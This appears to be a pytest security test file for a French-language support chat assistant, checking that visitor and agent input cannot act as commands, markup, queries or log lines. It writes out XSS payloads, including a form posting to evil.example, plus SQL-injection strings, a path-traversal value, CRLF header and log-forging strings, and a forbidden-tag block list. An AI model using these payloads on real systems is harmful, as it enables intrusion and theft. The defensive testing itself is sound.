"""Words that want to be more than words: commands, markup, queries, log lines, invisible tricks.

Each is said in a chat with the running assistant, and looked for wherever it could take effect.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable

import httpx
import pytest

from tests.support.stack import AgentClient, RunningStack, Visitor

Visit = Callable[..., Visitor]

SECTION = '{"section": "past-invoices#find"}'
# What is said, and the words that are left of it: they are heard as words, whatever they mean.
COMMANDS = {
    "/restart": "restart",
    "/session_start": "session_start",
    "/back_to_bot": "back_to_bot",
    '  /affirm{"draft": "x"}': 'affirm{"draft": "x"}',
    "\u200b/restart": "restart",
    "\u202e/restart": "restart",
    "\ufeff/restart": "restart",
    "\u2060\t/restart": "restart",
    "//restart": "restart",
    "/\u200b/restart": "restart",
    "EXTERNAL: /restart": "EXTERNAL: /restart",
    '/confirm_draft{"draft": "0123"}': 'confirm_draft{"draft": "0123"}',
    "/action_submit_cancellation": "action_submit_cancellation",
    f"/choose_section{SECTION}": f"choose_section{SECTION}",
}


@pytest.mark.parametrize(("text", "words"), COMMANDS.items(), ids=map(repr, COMMANDS))
def test_no_words_of_a_visitor_are_a_command(
    visit: Visit, agent: AgentClient, text: str, words: str
) -> None:
    visitor = visit()
    turn = visitor.say(text)
    assert turn.state == "bot"
    assert turn.heard == visit().say(words).heard
    assert not any(heard.startswith("error") for heard in turn.heard), "the engine said nothing"
    assert agent.conversation(visitor.id)["slots"] == {}


@pytest.mark.parametrize(
    "text",
    [
        '/request_cancellation{"products": ["patient_messages"], "site_number": "4411"}',
        '/confirm_draft{"draft": "0123456789abcdef"}',
        "/action_submit_cancellation",
    ],
)
def test_words_that_look_like_a_command_file_nothing(
    visit: Visit, agent: AgentClient, text: str
) -> None:
    visitor = visit()
    visitor.say(text)
    visitor.say(text)
    assert agent.conversation(visitor.id)["tickets"] == []


@pytest.mark.parametrize(
    "payload",
    [
        "/restart",
        "/affirm",
        '/choose_section{"section": "../../etc/passwd"}',
        '/confirm_draft{"draft": "0"}',
        "/ask_person",
        "texte",
    ],
)
def test_a_payload_that_was_never_offered_does_nothing(visit: Visit, payload: str) -> None:
    visitor = visit()
    assert visitor.send(payload=payload).status_code == 422
    assert len(visitor.messages()) == 1


def test_a_payload_offered_to_another_conversation_is_none_here(visit: Visit) -> None:
    offered, other = visit(), visit()
    offered.say("Je veux annuler la réservation en ligne")
    greeting = {b["payload"] for m in other.opening.messages for b in m["buttons"]}
    foreign = [
        b["payload"]
        for m in offered.messages()
        for b in m["buttons"]
        if b["payload"] not in greeting
    ]
    for payload in foreign:
        assert other.send(payload=payload).status_code == 422


MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[clic](javascript:alert(1))",
    "[clic](JaVaScRiPt&#58;alert(1))",
    "[clic](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "<a href='vbscript:x'>a</a>",
    "<svg><animate onbegin=alert(1)>",
    '"><iframe srcdoc="<script>alert(1)</script>">',
    "<form action=https://evil.example><input name=p>",
    "<style>*{background:url(//evil.example)}</style>",
    "`</code><script>x</script>`",
    "[a]: javascript:alert(1)\n\n[a]",
    "<https://evil.example/?q=1>",
]
_FORBIDDEN = (
    "<script", "<img", "<iframe", "<svg", "<form", "<input", "<style", "<animate", "onerror=\"",
    "href=\"javascript", "href=\"data", "href=\"vbscript",
)  # fmt: skip


@pytest.mark.parametrize("text", MARKUP)
def test_markup_of_a_visitor_stays_text(visit: Visit, text: str) -> None:
    visitor = visit()
    turn = visitor.say(text)
    said = next(m for m in visitor.messages() if m["author"] == "visitor")
    shown = re.sub(r"</?p>|<br ?/?>", "", said["html"])
    assert "<" not in shown
    for message in turn.messages:
        assert not any(tag in message["html"].lower() for tag in _FORBIDDEN)


@pytest.mark.parametrize("text", MARKUP)
def test_markup_of_an_agent_is_sanitised(visit: Visit, agent: AgentClient, text: str) -> None:
    visitor = visit()
    visitor.say("Je veux parler à quelqu’un")
    agent.act(visitor.id, "claim")
    shown = agent.act(visitor.id, "messages", text=text)["messages"][-1]["html"].lower()
    assert not any(tag in shown for tag in _FORBIDDEN), shown
    agent.act(visitor.id, "resolve")


QUERIES = [
    "'; DROP TABLE conversations; --",
    "%' OR '1'='1",
    "\\' UNION SELECT password_hash FROM agents --",
    "%%%%",
    "_____",
    "{{7*7}} ${7*7} #{7*7} %s %n",
    "{0.__class__}",
]


@pytest.mark.parametrize("text", QUERIES)
def test_a_search_finds_words_and_runs_none(agent: AgentClient, visit: Visit, text: str) -> None:
    visitor = visit()
    visitor.say("Je veux parler à quelqu’un")
    visitor.say(text)
    assert len(agent.get("/conversations", q=f"zzz{text}zzz")["conversations"]) == 0
    found = agent.get("/conversations", q=text)["conversations"]
    assert [one["id"] for one in found] == [visitor.id]
    assert agent.get("/tickets", q=text)["next"] is None
    assert agent.get("/conversations")["conversations"]
    assert "49" not in visit().say(text).text


@pytest.mark.parametrize("cursor", ["-1", "1;--", "1e9", "٣", "99999999999", "0x1", " 1"])
def test_a_cursor_is_a_number_or_refused(agent: AgentClient, cursor: str) -> None:
    answer = agent.http.get("/tickets", params={"cursor": cursor})
    assert answer.status_code == 422


def test_no_line_of_a_log_can_be_forged_and_none_holds_a_visitor_s_words(
    stack: RunningStack, visit: Visit
) -> None:
    canary = "canari-journal-4471"
    forged = f'{canary}\r\n{{"event": "sign-in", "level": "info"}}\n\x1b[31mrouge'
    visitor = visit()
    visitor.say(forged)
    visitor.http.get("/conversations/x%0d%0aSet-Cookie:%20a=b")
    visitor.http.post("/conversations", json={"page_url": forged, "language": canary})
    httpx.get(f"{stack.url}/{canary}%0a%0dX", trust_env=False)
    for name, process in stack.processes.processes.items():
        text = process.log.read_text(encoding="utf-8", errors="replace")
        assert canary not in text, name
        assert "\x1b[31mrouge" not in text
    for line in stack.processes.processes["gateway"].log.read_text().splitlines():
        if line.startswith("{"):
            json.loads(line)


def test_no_header_can_be_put_into_an_answer(visit: Visit) -> None:
    visitor = visit()
    answer = visitor.http.get("/conversations/x%0d%0aSet-Cookie:%20a=b")
    assert "set-cookie" not in answer.headers


@pytest.mark.parametrize(
    "text",
    [
        "\u202eelpoep eht ot klat ot tnaw I",
        "A\u0301" * 1500,
        "😀" * 1000,
        "\u0001contrôle",
        "\ufff9a\ufffab\ufffb",
        "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
        "﷽" * 500,
        "\u2028\u2029",
        "1" * 4000,
        " a" * 2000,
        "🇨🇦" * 900,
    ],
)
def test_strange_letters_get_an_ordinary_answer(visit: Visit, text: str) -> None:
    answer = visit().send(text=text)
    assert answer.status_code in (200, 422)


def test_a_lone_surrogate_is_refused_or_taken_and_breaks_nothing(visit: Visit) -> None:
    visitor = visit()
    body = b'{"text": "a \\ud800 b", "client_id": "0b7c4b1e-6d3e-4a51-9d0f-3f2f6f0a7c11"}'
    answer = visitor.http.post(
        f"{visitor.path}/messages", content=body, headers={"Content-Type": "application/json"}
    )
    assert answer.status_code in (200, 422)
    assert visitor.transcript()["state"] == "bot"
